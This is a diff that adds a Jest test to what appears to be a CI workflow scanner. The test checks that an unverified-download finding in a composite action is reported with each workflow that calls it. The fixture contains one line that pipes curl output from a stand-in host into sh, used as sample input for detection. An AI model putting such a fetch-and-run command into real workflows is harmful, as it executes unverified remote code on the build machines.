@@ -1,4 +1,7 @@
 import { describe, expect, test } from '@jest/globals';
+import { noUnverifiedDownload } from '../composition/no-unverified-download.js';
+import type { DecidedLeg } from '../control.js';
+import { findingsOf } from '../finding.js';
 import { subjectOf } from '../testing/subject.js';
 import type { Files } from '../testing/memory-tree.js';
 import { inlinedSubject } from './inlined.js';
@@ -322,4 +325,32 @@ describe('what is not put in place stays to be judged by itself', () => {
 test('a target that calls nothing is judged as it is', () => {
   const subject = subjectOf({ [CI]: workflow("      - run: 'make ${{ github.ref_name }}'\n") });
   expect(inlinedSubject(subject)).toBe(subject);
+});
+
+test('what is found in a file that workflows call is told with each call', () => {
+  const step = "    - { shell: bash, run: 'curl https://x.example | sh' }\n";
+  const inner = '.github/workflows/b.yml';
+  const files = {
+    [CI]: `${workflow('      - uses: ./.github/actions/a\n')}  b: { uses: ./${inner} }\n`,
+    [inner]: `on: workflow_call\njobs: { c: { uses: ./.github/workflows/c.yml } }\n`,
+    '.github/workflows/c.yml': workflow('      - uses: ./.github/actions/a\n').replace(
+      'push',
+      'workflow_call',
+    ),
+    [ACTION]: action(step),
+  };
+  const { judge } = noUnverifiedDownload.legs.G as DecidedLeg;
+  const found = findingsOf(
+    { id: '1.3.2', slug: 'x', platform: 'G' },
+    judge(subjectOf(files)) as [],
+  );
+  expect(found.map(({ locations, calledFrom }) => [locations, calledFrom])).toMatchObject([
+    [
+      [{ path: ACTION, line: 5 }],
+      [
+        { path: CI, line: 6 },
+        { path: CI, line: 7 },
+      ],
+    ],
+  ]);
 });
